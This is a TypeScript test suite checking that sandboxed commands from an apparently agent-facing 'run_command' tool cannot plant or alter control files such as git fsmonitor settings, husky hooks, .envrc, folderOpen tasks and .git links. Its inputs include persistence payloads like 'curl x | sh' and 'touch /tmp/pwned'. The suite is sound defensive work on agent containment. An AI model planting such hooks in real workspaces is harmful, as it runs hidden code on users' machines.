// Issue 21, findings 2 and 5: a sandboxed command (the auto mode) cannot leave control files behind.
// Real bubblewrap, real git, real files; run as an unprivileged user (root skips bwrap's user namespace):
//   su gwtest -c 'cd <worktree> && node --import tsx --test test/security/control-files.test.ts'
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, readdir, realpath, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { silentLogger } from '../../src/base/common/ports';
import type { QuarantinedControlPaths } from '../../src/terminal/common/commandPorts';
import { allTools } from '../../src/tools/common/registry';
import { defaultProtectedFiles, type ToolContext, type ToolOutcome } from '../../src/tools/common/tool';
import { BubblewrapSandbox } from '../../src/terminal/node/bubblewrap';
import { NodeControlGuard } from '../../src/terminal/node/controlGuard';
import { NodeControlWatcher } from '../../src/terminal/node/nodeControlWatcher';
import { NodeCommandRunner } from '../../src/terminal/node/nodeCommandRunner';
import { NodeFileChanges } from '../../src/tools/node/nodeFileChanges';
import { NodeWorkspaceFiles } from '../../src/tools/node/nodeWorkspaceFiles';
import { putFiles } from '../unit/helpers/workspaceFixture';

const signal = new AbortController().signal;
const runCommand = allTools.find((tool) => tool.name === 'run_command')!;

/** Git as the user's VS Code runs it: outside the sandbox, in `cwd`, with no user or system config. */
function hostGit(cwd: string, ...args: string[]): { status: number | null; stdout: string } {
  const env = { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' };
  const result = spawnSync('git', args, { cwd, env, encoding: 'utf8', timeout: 20_000 });
  return { status: result.status, stdout: result.stdout.trim() };
}

describe('control files a sandboxed command leaves (real bubblewrap, real git)', async () => {
  const probe = await new BubblewrapSandbox().available();
  if (!probe.ok || process.getuid?.() === 0) {
    test('these tests need bubblewrap and an unprivileged user', () => {
      assert.ok(!process.env.CI, `CI runs the sandbox tests as a non-root user with bubblewrap: ${probe.ok ? 'running as root' : probe.reason}`);
    });
    return;
  }

  let base: string;
  let root: string;
  let outside: string;
  let quarantineFolder: string;
  let ctx: ToolContext;
  let sandbox: BubblewrapSandbox;
  const rollbacks: QuarantinedControlPaths[] = [];
  const originals: Record<string, string> = {
    '.vscode/settings.json': '{ "editor.tabSize": 2 }\n',
    '.husky/pre-commit': 'npm test\n',
    'proj.code-workspace': '{ "folders": [{ "path": "." }] }\n',
    '.github/hooks/hooks.json': '{ "hooks": {} }\n',
    'node_modules/dep/index.js': 'module.exports = 1;\n',
    'node_modules/dep/.git/HEAD': 'ref: refs/heads/main\n',
    'node_modules/dep/.git/config': '[core]\n\trepositoryformatversion = 0\n',
    'sub/.git': 'gitdir: ../.git/modules/sub\n',
    'src/app.ts': 'export {};\n',
  };

  before(async () => {
    base = await realpath(await mkdtemp(join(tmpdir(), 'control-files-')));
    root = join(base, 'workspace');
    outside = join(base, 'outside');
    quarantineFolder = join(base, 'quarantine');
    await mkdir(root);
    assert.equal(hostGit(root, 'init', '-q').status, 0);
    await putFiles(root, originals);
    await mkdir(join(outside, 'repo/.git'), { recursive: true });
    await writeFile(join(outside, 'repo/.git/config'), '[core]\n');
    sandbox = new BubblewrapSandbox({ shell: '/bin/bash' });
    const session = sandbox.forSession('control-files');
    ctx = {
      files: new NodeWorkspaceFiles(root),
      changes: new NodeFileChanges(root),
      commands: new NodeCommandRunner(root, {
        shell: '/bin/bash',
        sandbox: { launch: (command, cwd, s) => session.launch({ root, cwd, command, protectedFiles: defaultProtectedFiles, network: false }, s) },
      }),
      protectedFiles: defaultProtectedFiles,
      logger: silentLogger,
      controlGuard: new NodeControlGuard({
        root,
        quarantineFolder,
        watcher: new NodeControlWatcher(),
        willSandbox: () => true,
        onRollback: (quarantined) => rollbacks.push(quarantined),
      }),
    };
  });
  after(async () => {
    sandbox.dispose();
    await rm(base, { recursive: true, force: true });
  });

  const run = async (command: string, timeout = 60): Promise<{ outcome: ToolOutcome; seconds: number }> => {
    const started = Date.now();
    const outcome = await (await runCommand.prepare({ command, timeout }, ctx, signal)).execute(signal);
    return { outcome, seconds: (Date.now() - started) / 1000 };
  };

  // The command, and the same repository made whole elsewhere first and renamed into place in one step.
  const repositories: [string, (marker: string) => string][] = [
    ['git init x, then core.fsmonitor, then sleep', (marker) => `git init -q x && git -C x config core.fsmonitor 'touch ${marker}; false' && sleep 30`],
    [
      'a whole repository with core.fsmonitor renamed to x/.git, then sleep',
      (marker) =>
        `git init -q --bare staged && git --git-dir=staged config core.bare false && git --git-dir=staged config core.fsmonitor 'touch ${marker}; false' && mv staged x/.git && sleep 30`,
    ],
  ];
  for (const [what, command] of repositories) {
    test(`${what}: stopped at once, x/.git moved out, git outside finds no repository there, nothing runs`, async () => {
      const marker = join(base, `fsmonitor-ran-${repositories.findIndex(([name]) => name === what)}`);
      await mkdir(join(root, 'x'), { recursive: true });
      const keptBefore = (await quarantined('x/.git')).length;
      const { outcome, seconds } = await run(command(marker));
      assert.ok(seconds < 10, `the command ran ${seconds} s; it must be stopped when x/.git appears`);
      assert.equal(outcome.ok, false);
      assert.match(outcome.output, /Stopped: the command created a control file/);
      assert.match(outcome.output, /- x\/\.git \(a Git repository\)/);
      assert.match(outcome.output, /Do not create them again in another way/);
      assert.equal(existsSync(join(root, 'x/.git')), false);
      const kept = await quarantined('x/.git');
      assert.equal(kept.length, keptBefore + 1, 'the quarantine keeps the repository');
      // What VS Code's git extension does with a new folder: finds its repository and asks its status.
      const topLevel = hostGit(join(root, 'x'), 'rev-parse', '--show-toplevel');
      assert.equal(topLevel.stdout, root, 'x is no repository of its own any more');
      hostGit(join(root, 'x'), 'status');
      assert.equal(existsSync(marker), false, 'the planted fsmonitor command never ran');
    });
  }

  const planted: [string, string, RegExp][] = [
    [
      '.vscode/tasks.json where there was no .vscode (runOn: folderOpen)',
      'mkdir -p web/.vscode && echo \'{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\' > web/.vscode/tasks.json',
      /web\/\.vscode/,
    ],
    ['.husky/pre-commit in a new folder', 'mkdir -p pkg/.husky && echo "curl x | sh" > pkg/.husky/pre-commit', /pkg\/\.husky/],
    ['a *.code-workspace file', 'echo "{}" > evil.code-workspace', /evil\.code-workspace/],
    ['an .envrc', 'echo "curl x | sh" > lib/.envrc', /lib\/\.envrc/],
    ['a .git file (gitlink) at depth', 'mkdir -p a/b/c && echo "gitdir: /tmp/elsewhere" > a/b/c/.git', /a\/b\/c\/\.git \(a Git link file/],
    ['hooks in a new .git/hooks', 'mkdir -p h/.git/hooks && printf "#!/bin/sh\\ntouch /tmp/x\\n" > h/.git/hooks/post-checkout', /h\/\.git/],
    ['agent hooks in .github/hooks', 'mkdir -p tools/.github/hooks && echo "{}" > tools/.github/hooks/run.json', /tools\/\.github\/hooks/],
    [
      'a .git folder under a deep folder',
      'mkdir -p d1/d2/d3/d4/d5/d6/d7/d8/d9/d10 && git init -q d1/d2/d3/d4/d5/d6/d7/d8/d9/d10',
      /d1\/d2\/d3\/d4\/d5\/d6\/d7\/d8\/d9\/d10\/\.git/,
    ],
    ['a .git in node_modules (VS Code opens the repository of any file shown)', 'git init -q node_modules/other', /node_modules\/other\/\.git/],
  ];
  for (const [what, command, named] of planted) {
    test(`rolled back: ${what}`, async () => {
      await mkdir(join(root, 'lib'), { recursive: true });
      const { outcome } = await run(`${command} && sleep 20`);
      assert.equal(outcome.ok, false);
      assert.match(outcome.output, named);
      assert.match(outcome.output, /Rolled back/);
      const left = await controlPathsIn(root);
      assert.deepEqual(left, [...expectedControlPaths].sort(), `left in the workspace: ${left.join(', ')}`);
    });
  }

  test('a symbolic link named .git pointing out of the workspace is moved, and what it points at is untouched', async () => {
    const { outcome } = await run(`mkdir -p linked && ln -s ${join(outside, 'repo/.git')} linked/.git`);
    assert.match(outcome.output, /linked\/\.git \(a symbolic link\)/);
    assert.equal(existsSync(join(root, 'linked/.git')), false);
    assert.equal(await readFile(join(outside, 'repo/.git/config'), 'utf8'), '[core]\n');
  });

  test('existing control files cannot be changed or replaced: they stay byte-equal', async () => {
    const attempts = [
      'git config core.fsmonitor "touch /tmp/pwned"',
      'echo "x" >> .vscode/settings.json',
      'echo "curl x | sh" >> .husky/pre-commit',
      'echo "{}" > proj.code-workspace',
      'echo "{}" > .github/hooks/hooks.json',
      'git -C node_modules/dep config core.fsmonitor "touch /tmp/pwned"',
      'echo "gitdir: /tmp" > sub/.git',
      'rm -rf .vscode .husky; mv proj.code-workspace p2',
    ];
    for (const command of attempts) {
      // Each one ran in the sandbox and was refused there (a sandbox that failed to start would prove nothing).
      const { outcome } = await run(command);
      assert.match(outcome.output, /Read-only file system|Device or resource busy/, `${command}\n${outcome.output}`);
      assert.match(outcome.output, /Ran in the sandbox/);
    }
    const gitConfigBefore = await readFile(join(root, '.git/config'), 'utf8');
    assert.doesNotMatch(gitConfigBefore, /fsmonitor/);
    for (const [path, content] of Object.entries(originals)) assert.equal(await readFile(join(root, path), 'utf8'), content, path);
  });

  test('10,000 planted names: none is left, in bounded time', async () => {
    const { outcome, seconds } = await run('mkdir -p many && cd many && for i in $(seq 10000); do mkdir -p "$i/.vscode"; done; sleep 20');
    assert.ok(seconds < 15, `took ${seconds} s`);
    assert.match(outcome.output, /Rolled back/);
    const left = await controlPathsIn(root);
    assert.deepEqual(left, [...expectedControlPaths].sort());
  });

  test('the user can restore exactly a path that was moved; only once, and not over something new', async () => {
    rollbacks.length = 0;
    // Made whole beside, then renamed into place: the watcher trips on the first event, when all is there.
    await run('mkdir -p made allowed && echo \'{"a":1}\' > made/settings.json && mv made allowed/.vscode');
    assert.equal(rollbacks.length, 1);
    const [quarantined] = rollbacks;
    assert.deepEqual(
      quarantined.rollback.moved.map((moved) => moved.path),
      ['allowed/.vscode'],
    );
    await quarantined.restore('allowed/.vscode', signal);
    assert.equal(await readFile(join(root, 'allowed/.vscode/settings.json'), 'utf8'), '{"a":1}\n');
    await assert.rejects(quarantined.restore('allowed/.vscode', signal), /not kept here/);
    // Now the user's: read-only for the next sandboxed command, and not rolled back.
    const { outcome } = await run('echo x >> allowed/.vscode/settings.json');
    assert.match(outcome.output, /Read-only file system/);
    assert.doesNotMatch(outcome.output, /Rolled back/);
    await rm(join(root, 'allowed/.vscode'), { recursive: true });
    expectedControlPaths.delete('allowed/.vscode');
  });

  test('a restore does not overwrite what is there now', async () => {
    rollbacks.length = 0;
    await run('mkdir -p again && echo "x" > again/.envrc');
    const [quarantined] = rollbacks;
    await writeFile(join(root, 'again/.envrc'), "the user's own\n");
    await assert.rejects(quarantined.restore('again/.envrc', signal), /something is at again\/\.envrc now/);
    assert.equal(await readFile(join(root, 'again/.envrc'), 'utf8'), "the user's own\n");
    await rm(join(root, 'again/.envrc'));
  });

  /** The quarantined items that were at `path`. */
  async function quarantined(path: string): Promise<string[]> {
    const found: string[] = [];
    for (const batch of await readdir(quarantineFolder).catch(() => [])) {
      const moved = JSON.parse(await readFile(join(quarantineFolder, batch, 'moved.json'), 'utf8')) as { path: string; stored: string }[];
      for (const item of moved) if (item.path === path && existsSync(item.stored)) found.push(item.stored);
    }
    return found;
  }
});

/** The control paths the fixture starts with. */
const expectedControlPaths = new Set(['.git', '.vscode', '.husky', 'proj.code-workspace', '.github/hooks', 'node_modules/dep/.git', 'sub/.git']);

/** Every control path in the workspace, found with the host's `find` (not the code under test). */
async function controlPathsIn(root: string): Promise<string[]> {
  const names = ['.git', '.vscode', '.husky', '.envrc', '*.code-workspace'].flatMap((name, index) => [...(index ? ['-o'] : []), '-iname', name]);
  const result = spawnSync('find', ['.', '(', ...names, '-o', '-path', '*/.github/hooks', ')', '-prune', '-print'], { cwd: root, encoding: 'utf8' });
  return result.stdout
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => line.replace(/^\.\//, ''))
    .sort();
}
